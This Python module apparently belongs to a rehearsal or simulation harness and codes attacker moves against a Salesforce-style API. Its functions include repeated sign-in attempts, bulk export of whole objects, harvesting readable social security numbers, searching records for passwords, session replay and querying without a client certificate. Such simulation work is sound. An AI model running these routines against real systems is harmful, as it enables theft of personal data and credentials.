"""Moves that several attacks make."""

import re
from datetime import timedelta
from typing import Any

from tasks.rehearsal.model import Caller, Gain, Refused

MUTUAL_TLS_PORT = 8443
LOOKING_ROUND = timedelta(minutes=12)
"""Between getting in and the first bulk read: reports of such thefts tell of minutes to days; this is the short end."""
PAGE = 200
TRIES = 6
_NUMBER = re.compile(r"\d{3}-\d{2}-\d{4}")
"""A social security number as people write it. A sealed one has another form, and is worth nothing without its key."""


def literal(text: str) -> str:
    """A text as a SOQL literal."""
    return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'"


def sign_in(caller: Caller) -> Gain:
    """Tried again where it is refused, as scripts do."""
    for _ in range(TRIES - 1):
        try:
            caller.sign_in()
        except Refused:
            continue
        return Gain("a session")
    caller.sign_in()
    return Gain("a session")


def count(caller: Caller, soql: str) -> int:
    """How many rows a query gives away."""
    return int(caller.call("GET", "query", query={"q": soql})["totalSize"])


def take_all(caller: Caller, sobject: str, fields: str = "Id, Name") -> Gain:
    """Every record of an object, in bulk."""
    rows = caller.export(f"SELECT {fields} FROM {sobject}{caller.only(sobject)}")
    if not rows:
        raise Refused(200, "NO_ROWS")
    return Gain(f"{rows:,} rows of {sobject}", rows, sobject)


def every(caller: Caller, soql: str) -> list[dict[str, Any]]:
    """All records of a query, page by page."""
    answer = caller.call("GET", "query", query={"q": soql})
    found = list(answer["records"])
    while not answer["done"]:
        answer = caller.call("GET", "query/" + str(answer["nextRecordsUrl"]).rpartition("/")[2])
        found += answer["records"]
    return found


def take_numbers(caller: Caller, sobject: str) -> Gain:
    """Social security numbers that can be read, from whatever columns are called after them; a row counts once."""
    described = caller.call("GET", f"sobjects/{sobject}/describe")["fields"]
    names = [str(each["name"]) for each in described if "ssn" in str(each["name"]).lower()]
    if not names:
        raise Refused(200, "NO_SUCH_FIELD")
    records = every(caller, f"SELECT {', '.join(names)} FROM {sobject}{caller.only(sobject)}")
    read = sum(any(_NUMBER.fullmatch(str(record[name])) for name in names) for record in records)
    if not read:
        raise Refused(200, "NO_NUMBER_IN_CLEAR")
    return Gain(f"{read:,} social security numbers", read, sobject)


def take_page(caller: Caller, sobject: str, fields: str = "Id, Name", rows: int = PAGE) -> Gain:
    """A first page, to see what is in it."""
    soql = f"SELECT {fields} FROM {sobject}{caller.only(sobject)} LIMIT {rows}"
    found = caller.call("GET", "query", query={"q": soql})["records"]
    if not found:
        raise Refused(200, "NO_ROWS")
    return Gain(f"a page of {len(found)} rows of {sobject}", len(found), sobject)


def count_objects(caller: Caller, *sobjects: str) -> Gain:
    """How many records there are of each object that can be read: what is worth taking."""
    found = []
    refusal: Refused | None = None
    for name in sobjects:
        try:
            found.append(f"{count(caller, f'SELECT COUNT() FROM {name}'):,} of {name}")
        except Refused as refused:
            refusal = refused
    if refusal is not None and not found:
        raise refusal
    return Gain(f"counts: {', '.join(found)}")


def hunt_secrets(caller: Caller, sobject: str, field: str) -> Gain:
    """Passwords that people have left in records: intruders of 2025 searched for them wherever they came in."""
    only = caller.only(sobject)
    soql = f"SELECT Id FROM {sobject}{f'{only} AND' if only else ' WHERE'} {field} LIKE '%password%' LIMIT {PAGE}"
    found = caller.call("GET", "query", query={"q": soql})["records"]
    return Gain(f"{len(found)} rows of {sobject} that speak of a password", len(found), sobject)


def replay(caller: Caller) -> Gain:
    """The session that was begun abroad, from another network."""
    caller.call("GET", "query", query={"q": "SELECT Id FROM Account LIMIT 1"}, network="office")
    return Gain("a session that works anywhere")


def without_certificate(caller: Caller) -> Gain:
    caller.call("GET", "query", query={"q": "SELECT Id FROM Account LIMIT 1"}, port=MUTUAL_TLS_PORT)
    return Gain("answers without a certificate")
